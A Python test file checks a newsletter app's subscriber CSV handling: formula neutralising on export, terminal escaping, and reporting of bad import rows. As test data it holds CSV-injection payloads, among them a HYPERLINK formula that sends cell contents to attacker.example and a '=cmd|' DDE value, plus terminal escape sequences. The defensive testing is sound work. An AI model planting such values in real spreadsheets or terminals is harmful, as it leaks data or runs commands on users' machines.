"""Subscriber spreadsheets: nothing exported can be evaluated, nothing shown can steer the
terminal, and no line of an import is lost without a word. Property tests run a fixed budget;
HYPOTHESIS_PROFILE=full runs many more examples."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import unicodedata

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from newsletter.keys import email_key, normalise_email
from newsletter.audience.spreadsheet import neutralised, one_subscriber, parse_csv, read_csv, restored, write_csv
from newsletter.domain import Subscriber
from newsletter.errors import BadInput
from newsletter.errors import CONTROLS, terminal_safe

# No example database: a test run leaves nothing behind in the tree.
settings.register_profile("spreadsheets-fast", max_examples=200, deadline=None, database=None)
settings.register_profile("spreadsheets-full", max_examples=5000, deadline=None, database=None)
PROFILE = settings.get_profile(
    "spreadsheets-full" if os.environ.get("HYPOTHESIS_PROFILE") == "full" else "spreadsheets-fast"
)

LANGUAGES = ("ar", "en")
HEADER = "email,name,language"
# What a spreadsheet may take for the start of a formula, typed or after leading whitespace.
TRIGGERS = set("=+-@\t\r＝＋－＠﹦﹢﹣﹫")
BIDI_CONTROLS = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}
TRICKY = "=+-@＝＋－＠\t\r\n\x00\x1b\x07\x7f\x9b\"',; \u3000\u200b\u200f\u202e\u2066\u2028نور"

tricky_text = st.text(st.one_of(st.sampled_from(TRICKY), st.characters()), max_size=40)
local_parts = st.text(st.sampled_from("abcxyz019=+-'_.|!"), min_size=1, max_size=12)


def valid_address(address: str) -> bool:
    try:
        return normalise_email(address) == address
    except ValueError:
        return False


addresses = st.builds("{}@{}".format, local_parts, st.sampled_from(["example.org", "example.net"])).filter(
    valid_address
)


def person(i: int, email: str, name: str, language: str = "ar") -> Subscriber:
    return Subscriber(i, email, name, language, "active", f"key{i}", dt.datetime(2024, 1, 1))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def evaluable(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


def stored_name(name: str) -> bool:
    """A name as import or `add` would store it."""
    return name == " ".join(name.split()) and len(name) <= 200 and not CONTROLS.search(name)


# -- export ------------------------------------------------------------------------------


@PROFILE
@given(st.lists(st.tuples(addresses, tricky_text), max_size=8))
def test_no_exported_cell_can_be_read_as_a_formula(people):
    subscribers = [person(i, email, name) for i, (email, name) in enumerate(people)]
    rows = cells(write_csv(subscribers))
    assert rows[0][:4] == ["email", "name", "language", "status"] and len(rows) == len(people) + 1
    for row, sub in zip(rows[1:], subscribers, strict=True):
        for cell, original in zip(row[:4], (sub.email, sub.name, sub.language, sub.status), strict=True):
            assert not evaluable(cell), (cell, original)
            assert cell in (original, "'" + original)
            if original[:1].isalnum():
                assert cell == original  # every other cell byte-identical


@PROFILE
@given(
    st.lists(
        st.tuples(addresses, tricky_text.map(lambda n: " ".join(n.split()))),
        max_size=8,
        unique_by=lambda p: email_key(p[0]),
    )
)
def test_export_then_import_gives_back_every_person_unchanged(people):
    people = [(email, name) for email, name in people if stored_name(name)]
    subscribers = [person(i, email, name, LANGUAGES[i % 2]) for i, (email, name) in enumerate(people)]
    exported = cells(write_csv(subscribers))
    out = io.StringIO()
    csv.writer(out).writerows(row[:3] for row in exported)  # import takes no status column
    good, bad = parse_csv(out.getvalue(), LANGUAGES)
    assert bad == []
    assert [(g.email, g.name, g.language) for g in good] == [(s.email, s.name, s.language) for s in subscribers]


@PROFILE
@given(tricky_text)
def test_restored_undoes_neutralised_exactly(cell):
    assert restored(neutralised(cell)) == cell
    assert not evaluable(neutralised(cell))


@pytest.mark.parametrize("start", sorted(TRIGGERS) + [" =", "\u3000=", "\u200b=", "'="])
def test_names_beginning_with_a_formula_character_are_exported_inert(start):
    name = start + 'HYPERLINK("https://attacker.example/?x="&A1,"Click")'
    text = write_csv([person(1, "=cmd|'/Ccalc'!A0@example.org", name), person(2, "nour@example.org", "نور حداد")])
    rows = cells(text)
    assert rows[1][:2] == ["'=cmd|'/Ccalc'!A0@example.org", "'" + name]
    assert all(not evaluable(cell) for row in rows for cell in row)
    assert text.split("\n")[2] == "nour@example.org,نور حداد,ar,active,,,"


def test_cells_that_only_look_odd_are_left_alone():
    names = ["O'Brien", "Jean-Luc", "a@b", "1+1", "'quoted'", "Doe, Jane", "-"]
    rows = cells(write_csv([person(i, f"p{i}@example.org", n) for i, n in enumerate(names)]))
    assert [row[1] for row in rows[1:]] == ["O'Brien", "Jean-Luc", "a@b", "1+1", "'quoted'", "Doe, Jane", "'-"]


# -- terminal ----------------------------------------------------------------------------


def test_terminal_safe_escapes_controls_and_keeps_arabic():
    assert terminal_safe("\x1b]0;owned\x07") == "\\x1b]0;owned\\x07"
    assert terminal_safe("abc\u202edef") == "abc\\u202edef"
    assert terminal_safe("\x9b31m\x7f\x00\t\n\u2066\u2069\u2028") == "\\x9b31m\\x7f\\x00\\x09\\x0a\\u2066\\u2069\\u2028"
    arabic = "نور حداد\u200c\u200f (Nour) أمينة"
    assert terminal_safe(arabic) == arabic


@PROFILE
@given(tricky_text)
def test_terminal_safe_escapes_each_control_and_changes_nothing_else(text):
    def expected(c: str) -> str:
        if not CONTROLS.match(c):
            return c
        return f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}"

    shown = terminal_safe(text)
    assert shown == "".join(map(expected, text))
    assert not any(unicodedata.category(c) == "Cc" or unicodedata.bidirectional(c) in BIDI_CONTROLS for c in shown)


# -- import ------------------------------------------------------------------------------


def test_an_unterminated_quote_is_a_bad_row_and_the_next_rows_are_still_imported():
    text = f'{HEADER}\na@example.org,"Amina,ar\nb@example.org,Bob,en\nc@example.org,"Carl",en\n'
    good, bad = parse_csv(text, LANGUAGES)
    assert [(p.line, p.message) for p in bad] == [(2, "the quote opened in the name column is not closed on this line")]
    assert [(g.line, g.email, g.name) for g in good] == [(3, "b@example.org", "Bob"), (4, "c@example.org", "Carl")]


def test_a_quote_left_open_on_the_last_line_is_a_bad_row():
    good, bad = parse_csv(f'{HEADER}\na@example.org,A,en\n"b@example.org,B,en', LANGUAGES)
    assert [g.line for g in good] == [2]
    assert [(p.line, p.message) for p in bad] == [
        (3, "the quote opened in the email column is not closed on this line")
    ]


def test_a_quote_left_open_in_the_header_makes_the_file_unusable():
    with pytest.raises(BadInput) as caught:
        parse_csv('email,"name,language\na@example.org,A,en\n', LANGUAGES, "x.csv")
    assert str(caught.value) == "x.csv:1: not CSV: a quote in the header is not closed on its line"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("a@example.org,Ca\x00rl,en", "control character U+0000 in the name column"),
        ("a@example.org,\x1b]0;owned\x07,en", "control character U+001B in the name column"),
        ("a@example.org,\u202eevil,en", "control character U+202E RIGHT-TO-LEFT OVERRIDE in the name column"),
        ("a@example\x00.org,A,en", "control character U+0000 in the email column"),
        ("a@example.org,A,e\x85n", "control character U+0085 in the language column"),
        ("\x1c", "control character U+001C in the email column"),
    ],
)
def test_control_characters_are_refused_naming_line_and_column(row, message):
    good, bad = parse_csv(f"{HEADER}\nb@example.org,B,ar\n{row}\n", LANGUAGES)
    assert [g.line for g in good] == [2]
    assert [(p.line, p.message) for p in bad] == [(3, message)]


def test_a_tab_in_a_name_is_whitespace_and_an_empty_header_column_is_named_by_number():
    good, bad = parse_csv("email,name,,language\na@example.org,Nour\tHaddad,x,ar\nb@example.org,B,\x07,en\n", LANGUAGES)
    assert [(g.email, g.name) for g in good] == [("a@example.org", "Nour Haddad")]
    assert [(p.line, p.message) for p in bad] == [(3, "control character U+0007 in the column 3 column")]


def test_add_refuses_a_control_character_in_the_name():
    with pytest.raises(BadInput, match=r"--name: control character U\+001B"):
        one_subscriber("a@example.org", "\x1b[2J", None, LANGUAGES)
    assert one_subscriber("a@example.org", " نور \t حداد ", None, LANGUAGES).name == "نور حداد"


def test_a_file_that_is_not_utf8_names_the_line(tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(b"\xef\xbb\xbfemail,name\r\na@example.org,A\rb@example.org,\xe9\n")
    with pytest.raises(BadInput) as caught:
        read_csv(path, LANGUAGES)
    assert str(caught.value) == f"{path}:3: not UTF-8 text (invalid continuation byte); save it again as CSV UTF-8"


def test_the_sample_file_keeps_its_deliberate_bad_rows():
    sheet = read_csv(ROOT / "data" / "sample-subscribers.csv", LANGUAGES)
    assert [p.line for p in sheet.bad] == [16, 17, 18, 19, 21] and len(sheet.good) == 17


well_formed = st.builds(
    lambda name, lang: (name, lang),
    tricky_text.map(lambda n: " ".join(n.split())).filter(stored_name),
    st.sampled_from(LANGUAGES),
)
odd_line = st.one_of(
    st.text(st.characters(blacklist_characters="\r\n"), max_size=30),
    st.text(st.sampled_from(TRICKY.replace("\r", "").replace("\n", "") + "a@.org"), max_size=30),
    st.builds(
        '{}@example.org,"{}'.format, local_parts, st.text(st.characters(blacklist_characters='\r\n"'), max_size=10)
    ),
)


@PROFILE
@given(st.lists(st.one_of(well_formed, odd_line), max_size=12), st.sampled_from(["\n", "\r\n", "\r"]))
def test_every_line_is_a_good_row_a_bad_row_a_blank_line_or_the_header(lines, newline):
    text_lines, expected = [], {}
    for number, line in enumerate(lines, start=2):
        if isinstance(line, tuple):  # a well-formed row: whatever comes before it, it is imported
            name, language = line
            email = f"row{number}@well-formed.example.org"
            expected[number] = (email, name, language)
            out = io.StringIO()
            csv.writer(out, lineterminator="").writerow([email, neutralised(name), language])
            line = out.getvalue()
        text_lines.append(line)
    good, bad = parse_csv(newline.join([HEADER, *text_lines]), LANGUAGES)
    reported = [g.line for g in good] + [p.line for p in bad]
    assert len(reported) == len(set(reported)) and set(reported) <= set(range(2, len(lines) + 2))
    for number, line in enumerate(text_lines, start=2):
        if number not in reported:
            assert all(c.isspace() or c in ',"' for c in line), (number, line)
    assert {g.line: (g.email, g.name, g.language) for g in good if g.line in expected} == expected


# -- through the command line ------------------------------------------------------------


def test_subscribers_export_of_imported_formula_names_has_no_formula_cell(project):
    from click.testing import CliRunner

    from newsletter.cli import cli

    def run(*args: str):
        return CliRunner().invoke(cli, [*args, "--config", str(project.config_path)], env=project.env)

    starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
    rows = [f'p{i}@example.org,"{s}HYPERLINK(""https://attacker.example"",""x"")",en' for i, s in enumerate(starts)]
    source = project.root / "people.csv"
    source.write_text("\n".join([HEADER, *rows, "=cmd|'/Ccalc'!A0@example.org,Nour,ar"]) + "\n", encoding="utf-8")
    assert run("subscribers", "import", str(source)).exit_code == 0
    out = project.root / "export.csv"
    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
    exported = cells(out.read_text(encoding="utf-8"))
    assert len(exported) == len(starts) + 2
    assert all(not evaluable(cell) for row in exported for cell in row)
    assert sorted(row[1][:2] for row in exported[1:]) == sorted(["No", *("'" + s for s in starts)])
